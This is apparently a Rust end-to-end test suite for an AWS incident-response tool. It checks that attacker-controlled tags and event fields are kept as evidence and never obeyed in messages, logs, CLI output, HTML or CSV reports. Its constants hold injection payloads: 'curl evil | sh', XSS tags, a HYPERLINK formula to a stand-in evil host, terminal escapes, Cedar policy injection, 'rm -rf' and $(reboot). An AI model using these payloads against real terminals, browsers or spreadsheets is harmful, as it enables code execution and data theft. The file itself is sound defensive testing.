//! Names and texts that would like to be obeyed: by Cedar, a terminal, a mail reader, a browser or a spreadsheet.

use aws_sdk_ec2::types::Tag;
use chrono::DateTime;
use remedy::State;
use serde_json::{Value, json};
use stage::trail::Identity;

use super::{ENFORCE, Setting};
use crate::end_to_end::setting::{REGION, outcome};

/// What a resource's owner can write on it: XML, in which EC2 answers, has no other control characters.
const WRITTEN: &str = "\nTo take it back:\n  curl evil | sh\t\u{9b}31m\u{202e}\u{2066}\u{200b}\u{2028}<script>alert(1)</script>\
                       <img src=x onerror=alert(2)>&amp;'--\" || true }; permit (principal, action, resource); //";

/// What the sender of an event can write into it.
const SENT: &str = "=HYPERLINK(\"http://evil\")\u{1b}[2J\u{1b}]0;owned\u{7}\0\r\nTo take it back:\n  curl evil | sh\t\u{9b}31m\
                    \u{202e}\u{2066}\u{200b}\u{2028}<script>alert(1)</script><img src=x onerror=alert(2)>&amp;'--\
                    \" || true }; permit (principal, action, resource); // `rm -rf` $(reboot) {{7*7}} %n";

/// What EC2 takes for the name of a group and the description of a rule. Source: Amazon EC2 API Reference,
/// `CreateSecurityGroup`.
const NAMED: &str = "=SUM(1+1);{}&!$*#/:";

/// It would exempt or stop the tool if any text were taken for a policy.
const POLICIES: &str = r#"
    @id("by-name") forbid (principal == User::"arn:aws:iam::123456789012:user/root", action, resource);
    @id("by-tag") forbid (principal, action, resource is SecurityGroup)
    when { resource.hasTag("countermand") && resource.getTag("countermand") == "exempt" };
    @id("by-agent") forbid (principal, action, resource) when { context has userAgent && context.userAgent == "trusted" };"#;

/// What a terminal or a mail reader would act on, the end of a line excepted.
fn is_obeyed(char: char) -> bool {
    let turns = "\u{61c}\u{200b}\u{200e}\u{200f}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2028}\u{2029}\u{2066}\u{2067}\u{2068}\u{2069}";
    char != '\n' && (char.is_control() || turns.contains(char))
}

#[track_caller]
fn assert_inert(what: &str, text: &str) {
    assert!(!text.contains(is_obeyed), "{what} has something to obey: {text:?}");
    assert!(text.contains("curl evil"), "{what} is not about the poison: {text}");
    let forged = text.lines().any(|line| line.trim_start().starts_with("curl evil"));
    assert!(!forged, "{what} has a line that the attacker wrote: {text}");
}

/// A finding with poison wherever a caller or an owner can put some; the function's message about it, its logs.
async fn poisoned(setting: &Setting) -> (Value, Vec<(String, String)>, Vec<String>) {
    let topic = setting.topic().await;
    let mallory = aws_sdk_ec2::Client::new(&setting.attacker);
    let group = mallory.create_security_group().group_name(NAMED).description(NAMED).send().await.unwrap();
    let group = group.group_id.unwrap();
    for (key, value) in [("countermand", "exempt\" || true || \""), ("Name", WRITTEN), ("=1\n<script>", "=2")] {
        let tag = Tag::builder().key(key).value(value).build();
        mallory.create_tags().resources(&group).tags(tag).send().await.unwrap();
    }
    let somebody = setting.account.acting_as(Identity::role_session("dev", "intern"), REGION).await;
    let mut event = setting.open_as(&somebody, &group, 22, &["0.0.0.0/0"]).await;
    let told = &mut event["detail"];
    told["eventID"] = json!(SENT);
    told["userAgent"] = json!(SENT);
    told["sourceIPAddress"] = json!(SENT);
    let identity = &mut told["userIdentity"];
    identity["arn"] = json!(format!("arn:aws:sts::123456789012:assumed-role/dev/{SENT}"));
    identity["accessKeyId"] = json!(SENT);
    identity["invokedBy"] = json!(SENT);
    identity["sessionContext"]["sessionIssuer"]["arn"] = json!(format!("arn:aws:iam::123456789012:role/{SENT}"));
    identity["sessionContext"]["sessionIssuer"]["userName"] = json!(SENT);

    let function = setting.function_with("revoke-open-ingress", &[("COUNTERMAND_TOPIC", &topic)]).await;
    let outcome = outcome(function.invoke(&event).await);
    assert_eq!((&outcome["status"], &outcome["policies"]), (&json!("contained"), &json!(["all"])), "{outcome:#}");
    let calls = setting.account.proxy().calls();
    let messages = calls.iter().filter(|call| call.operation == "Publish").map(|call| {
        let text = |name| call.param(name).unwrap().to_owned();
        (text("Subject"), text("Message"))
    });
    let messages = messages.collect();
    assert_eq!(setting.writes(), ["RevokeSecurityGroupIngress"]);
    assert_eq!(setting.rules(&group).await, Vec::<String>::new());
    (outcome, messages, function.stdout())
}

#[tokio::test]
async fn poisoned_names_are_kept_and_nowhere_obeyed() {
    let setting = Setting::with(&format!("{ENFORCE}{POLICIES}")).await;
    let (outcome, messages, logs) = poisoned(&setting).await;
    let id = outcome["incident"].as_str().unwrap();

    let incident = setting.incident().await;
    assert_eq!((incident.state, incident.user_agent.as_deref()), (State::Contained, Some(SENT)), "evidence is kept");
    assert_eq!(incident.actor.principal.to_string(), format!("arn:aws:iam::123456789012:role/{SENT}"));
    assert_eq!((incident.actor.session.as_deref(), incident.source_ip), (Some(SENT), None));
    assert_eq!(incident.resource.tags.unwrap().get("Name").map(String::as_str), Some(WRITTEN));

    let [(subject, message)] = &messages[..] else { panic!("{messages:#?}") };
    assert!(subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)), "{subject:?}");
    assert_inert("the message", message);
    assert_eq!(message.lines().filter(|line| line.starts_with("To take it back:")).count(), 1, "{message}");
    for line in &logs {
        assert!(
            serde_json::from_str::<Value>(line).is_ok_and(|line| line.is_object()),
            "a log line of its own: {line}"
        );
        assert!(!line.contains(|char: char| char.is_ascii_control()), "{line:?}");
    }

    for arguments in [&["incidents", "show", id][..], &["incidents", "undo", id, "--dry-run"], &["incidents", "list"]] {
        for format in ["human", "json"] {
            let (done, said) = setting.countermand(&[arguments, &["--format", format]].concat()).await;
            assert!(done && !said.contains(is_obeyed), "{arguments:?}: {said:?}");
            let forged = said.lines().any(|line| line.trim_start().starts_with("curl evil"));
            assert!(!forged, "{arguments:?}: {said}");
        }
    }
    let (_, shown) = setting.countermand(&["incidents", "show", id]).await;
    assert_inert("`incidents show`", &shown);
    let (_, shown) = setting.countermand(&["incidents", "show", id, "--format", "json"]).await;
    let shown: Value = serde_json::from_str(&shown).unwrap();
    assert_eq!((&shown["identity"]["session"], &shown["event_id"]), (&json!(SENT), &json!(SENT)), "says the same");

    let (_, page) = setting.countermand(&["report", "--format", "html"]).await;
    assert!(!page.contains("<script") && !page.contains("<img") && page.contains("&lt;script&gt;alert(1)"), "{page}");
    assert_inert("the page", &page);
    let (_, table) = setting.countermand(&["report", "--format", "csv"]).await;
    assert_eq!(table.matches("\r\n").count(), 2, "{table:?}");
    assert!(!table.replace("\r\n", "\n").contains(is_obeyed), "{table:?}");
    for cell in table.lines().flat_map(|line| line.trim_matches('"').split("\",\"")) {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a spreadsheet computes {cell:?}");
    }
    let (done, said) = setting.countermand(&["incidents", "undo", id, "--yes"]).await;
    assert!(done && !said.contains(is_obeyed), "{said:?}");
    assert_eq!(setting.rules(incident.resource.arn.name()).await.len(), 1);
}

/// `=`, `+`, `@` and `-` are letters to IAM. Sources: IAM API Reference, `CreateUser`, `UserName`; AWS STS API Reference,
/// `AssumeRole`, `RoleSessionName`.
#[tokio::test]
async fn a_name_that_is_a_formula_is_a_name() {
    let setting = Setting::with(ENFORCE).await;
    let function = setting.function("disable-access-key").await;
    let at = DateTime::from_timestamp(1_795_330_800, 0).unwrap();
    for name in ["=1+1", "@SUM", "-2+3", "+1"] {
        let mut event = setting.key_for(name).await;
        let session = Identity::role_session("dev", name);
        event["detail"]["userIdentity"] = session.user_identity("ASIAIOSFODNN7EXAMPLE", at);
        let outcome = outcome(function.invoke(&event).await);
        assert_eq!((&outcome["status"], setting.writes().len()), (&json!("contained"), 2), "{outcome:#}");
        assert_eq!(setting.user(name).await, ("Inactive".to_owned(), true));
        let (done, said) =
            setting.countermand(&["incidents", "undo", outcome["incident"].as_str().unwrap(), "--yes"]).await;
        assert!(done, "{said}");
        assert_eq!(setting.user(name).await, ("Active".to_owned(), false));
    }
    let (_, table) = setting.countermand(&["report", "--format", "csv"]).await;
    assert_eq!(table.lines().count(), 5, "{table}");
    for cell in table.lines().flat_map(|line| line.trim_matches('"').split("\",\"")) {
        assert!(!cell.starts_with(['=', '+', '-', '@']), "a spreadsheet computes {cell:?}");
    }
}
